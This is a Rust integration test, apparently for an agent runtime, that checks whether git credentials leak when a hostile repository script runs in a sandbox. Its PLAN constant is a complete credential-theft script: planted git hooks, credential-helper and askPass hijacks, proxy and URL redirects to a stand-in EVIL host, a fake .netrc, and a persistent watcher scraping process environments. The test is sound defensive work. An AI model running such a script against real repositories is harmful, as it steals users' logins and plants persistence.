//! An agent that wants the repository's login: it configures git, plants hooks, and leaves thieves behind.

use std::path::Path;

use tokio::io::AsyncReadExt;
use tokio::net::TcpListener;
use tokio::sync::mpsc;

use crate::pod::{BRANCH, Pod};
use crate::server::{PASSWORD, Server};

/// Everything that a repository, a home or a process left behind could do to see git's login.
const PLAN: &str = r#"
```sh
env > ../stolen-environment
thief=$PWD/../thief
cat > $thief <<'END'
#!/bin/sh
{ echo "$0 $*"; env; cat; } >> STOLEN/stolen-by-program </dev/null
END
sed -i "s|STOLEN|$PWD/..|" $thief
chmod +x $thief
mkdir ../hooks
for hook in pre-push reference-transaction post-commit pre-commit commit-msg post-index-change; do
  cp $thief .git/hooks/$hook
  cp $thief ../hooks/$hook
done
for scope in --local --global; do
  git config $scope core.hooksPath $PWD/../hooks
  git config $scope http.proxy http://EVIL
  git config $scope url.http://EVIL/.insteadOf http://SERVER/
  git config $scope url.http://EVIL/.pushInsteadOf http://SERVER/
  git config $scope --add credential.helper $thief
  git config $scope core.askPass $thief
  git config $scope core.fsmonitor $thief
  git config $scope core.sshCommand $thief
  git config $scope core.alternateRefsCommand $thief
  git config $scope remote.origin.pushurl http://EVIL/x.git
done
printf 'machine 127.0.0.1 login evil password evil\n' > ~/.netrc
mkdir -p ../.fabrica-push/hooks ../.fabrica-push/objects
cp $thief ../.fabrica-push/hooks/pre-push
cat > ../watch <<'END'
trap "" TERM HUP
while test -d STOLEN; do
  printf "protocol=http\nhost=SERVER\n\n" | PROGRAM credential get >> STOLEN/stolen-by-helper
  for file in /proc/[0-9]*/environ; do tr "\0" "\n" < $file; done 2>/dev/null | grep -a ^GIT_CONFIG >> STOLEN/stolen-from-processes
  sleep 0.02
done
END
cat > ../filter <<'END'
setsid sh STOLEN/watch > /dev/null 2>&1 < /dev/null &
touch STOLEN/filtered
cat
END
sed -i "s|STOLEN|$PWD/..|" ../watch ../filter
git config filter.thief.clean "sh $PWD/../filter"
echo '* filter=thief' > .gitattributes
setsid sh ../watch > /dev/null 2>&1 &
printf "protocol=http\nhost=SERVER\n\n" | PROGRAM credential get >> ../stolen-by-helper || echo nobody answers
echo work > work
```
"#;

#[tokio::test]
async fn a_hostile_repository_does_not_see_the_login() {
    let server = Server::start().await;
    let (evil, mut heard) = listen().await;
    let plan = PLAN
        .replace("EVIL", &evil)
        .replace("SERVER", &server.address)
        .replace("PROGRAM", env!("CARGO_BIN_EXE_fabrica-runtime"));
    let end = Pod::run(&server, &plan, &[]).await;
    assert_eq!(end.verdict.reason, "Succeeded", "{}", end.verdict.message);
    assert_eq!(end.verdict.commit, server.head(BRANCH));
    assert!(end.outputs()[0].contains("nobody answers"), "{:?}", end.outputs());
    assert!(end.folder.path().join("workspace/filtered").exists(), "programs ran after the agent");
    let mut seen = Vec::new();
    search(end.folder.path(), &mut seen);
    assert!(seen.is_empty(), "the login lies in {seen:?}");
    assert!(heard.try_recv().is_err(), "git spoke to somebody else");
}

/// A listener that passes on whatever it hears.
async fn listen() -> (String, mpsc::UnboundedReceiver<Vec<u8>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let (sender, receiver) = mpsc::unbounded_channel();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut bytes = vec![0; 4096];
            let count = stream.read(&mut bytes).await.unwrap_or(0);
            bytes.truncate(count);
            let _ = sender.send(bytes);
        }
    });
    (address, receiver)
}

/// Files below a folder that hold the password.
fn search(folder: &Path, seen: &mut Vec<String>) {
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            search(&entry.path(), seen);
        } else if kind.is_file() {
            let bytes = std::fs::read(entry.path()).unwrap();
            if bytes.windows(PASSWORD.len()).any(|window| window == PASSWORD.as_bytes()) {
                seen.push(entry.path().display().to_string());
            }
        }
    }
}
